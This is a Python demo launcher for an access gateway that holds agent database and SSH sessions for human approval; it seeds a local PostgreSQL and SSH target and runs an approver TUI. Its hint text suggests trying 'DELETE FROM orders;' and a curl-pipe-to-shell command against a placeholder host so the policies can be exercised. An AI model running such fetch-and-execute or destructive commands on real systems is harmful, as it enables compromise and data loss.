"""Bring up the demo and tear it down: a PostgreSQL target seeded with sample data, an SSH
target, an OpenID provider, TLS, tokens, and the engine with the example policies; then the TUI
as the approver, or (headless) one JSON line on stdout and a wait for SIGINT/SIGTERM."""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import shutil
import signal
import sys
import tempfile
from importlib import resources
from pathlib import Path
from typing import Any

from engine.config import Config, load_config
from engine.engine import Engine
from gatewatch.demo.oidc import DemoOidcProvider
from gatewatch.demo.pgcluster import PgCluster, free_port
from gatewatch.demo.sshtarget import DemoSshTarget
from gatewatch.demo.tls import self_signed

DEMO_DB = "shop"
DEMO_ROLE = "gatewatch"


def default_policies() -> Path:
    """The example policies.yaml at the repository root (next to the packages)."""
    return Path(__file__).resolve().parents[2] / "policies.yaml"


def _prepare_target(cluster: PgCluster, password: str) -> None:
    cluster.start()
    cluster.create_role(DEMO_ROLE, password)
    cluster.sql(f'CREATE DATABASE {DEMO_DB} OWNER "{DEMO_ROLE}";')
    seed = resources.files("gatewatch.demo").joinpath("seed.sql").read_text()
    cluster.sql(f'SET ROLE "{DEMO_ROLE}";\n{seed}', dbname=DEMO_DB)


async def run_demo(policies: Path, *, headless: bool) -> int:
    work = Path(tempfile.mkdtemp(prefix="gatewatch-demo-"))
    cluster = PgCluster(work / "pg")
    ssh_target = DemoSshTarget(work / "ssh-home")
    idp: DemoOidcProvider | None = None
    engine: Engine | None = None
    try:
        idp = await asyncio.to_thread(DemoOidcProvider().start)
        target_password = secrets.token_urlsafe(24)
        await asyncio.to_thread(_prepare_target, cluster, target_password)
        await ssh_target.start()
        known_hosts = work / "ssh_known_hosts"
        known_hosts.write_text(ssh_target.known_hosts_line() + "\n")
        cert, key = self_signed(work / "tls")
        tokens = {"alice": secrets.token_urlsafe(18), "oncall": secrets.token_urlsafe(18)}
        listen_port = free_port()
        os.environ.update({
            "GATEWATCH_SHOP_LISTEN": f"127.0.0.1:{listen_port}",
            "GATEWATCH_SHOP_PG_HOST": cluster.host,
            "GATEWATCH_SHOP_PG_PORT": str(cluster.port),
            "GATEWATCH_SHOP_PG_USER": DEMO_ROLE,
            "GATEWATCH_SHOP_PG_PASSWORD": target_password,
            "GATEWATCH_TLS_CERT": str(cert),
            "GATEWATCH_TLS_KEY": str(key),
            "GATEWATCH_ALICE_TOKEN": tokens["alice"],
            "GATEWATCH_ONCALL_TOKEN": tokens["oncall"],
            "GATEWATCH_WEB_LISTEN": f"127.0.0.1:{free_port()}",
            "GATEWATCH_WEB_SSH_HOST": ssh_target.host,
            "GATEWATCH_WEB_SSH_PORT": str(ssh_target.port),
            "GATEWATCH_WEB_SSH_USER": ssh_target.user,
            "GATEWATCH_WEB_SSH_PASSWORD": ssh_target.password,
            "GATEWATCH_WEB_KNOWN_HOSTS": str(known_hosts),
            "GATEWATCH_OIDC_ISSUER": idp.issuer,
        })
        config = load_config(policies)
        engine = Engine(config)
        await engine.start()
        host, port = engine.listeners["shop"]
        ssh_host, ssh_port = engine.listeners["web"]
        info: dict[str, Any] = {
            "config": str(policies),
            "store": str(config.engine.store),
            "control": str(config.engine.control_socket),
            "postgres": {"host": host, "port": port, "dbname": DEMO_DB, "user": "alice",
                         "password": tokens["alice"]},
            "postgres_direct": {"host": cluster.host, "port": cluster.port, "dbname": DEMO_DB,
                                "user": DEMO_ROLE, "password": target_password},
            "ssh": {"host": ssh_host, "port": ssh_port, "user": "alice",
                    "password": tokens["alice"], "host_key": _gateway_host_key(config)},
            "ssh_direct": {"host": ssh_target.host, "port": ssh_target.port,
                           "user": ssh_target.user, "password": ssh_target.password,
                           "host_key": ssh_target.known_hosts_line().split(" ", 1)[1]},
            "approver": {"user": "oncall", "token": tokens["oncall"]},
            # A client-credentials token from here, as the password of pg_user on the
            # postgres listener, opens a session as the agent.
            "oidc": idp.demo_info(),
        }
        if headless:
            print(json.dumps(info), flush=True)
            await _wait_for_signal()
        else:
            await _run_tui(info)
            print("Gatewatch demo: the TUI closed; stopping and removing the target.", flush=True)
        return 0
    finally:
        if engine is not None:
            await engine.stop()
        await ssh_target.stop()
        if idp is not None:
            await asyncio.to_thread(idp.stop)
        await asyncio.to_thread(cluster.stop)
        shutil.rmtree(work, ignore_errors=True)


def _gateway_host_key(config: Config) -> str:
    """The gateway's SSH host key as a known_hosts entry's "type base64" (to pin it)."""
    pub = config.engine.store.with_name("ssh_host_web_ed25519_key.pub")
    return " ".join(pub.read_text().split()[:2])


async def _run_tui(info: dict[str, Any]) -> None:
    """The operator's TUI, as the demo's approver, in this process (over the control socket)."""
    from tui.app import GatewatchApp
    from tui.source import LiveSource

    pg = info["postgres"]
    ssh = info["ssh"]
    hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
            f"dbname={pg['dbname']} user={pg['user']}'  then try DELETE FROM orders;\n"
            f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh")
    app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, app.exit)
    try:
        await app.run_async()
    finally:
        for sig in (signal.SIGINT, signal.SIGTERM):
            loop.remove_signal_handler(sig)


async def _wait_for_signal() -> None:
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, stop.set)
    try:
        await stop.wait()
    finally:
        for sig in (signal.SIGINT, signal.SIGTERM):
            loop.remove_signal_handler(sig)
    print("stopping…", file=sys.stderr, flush=True)
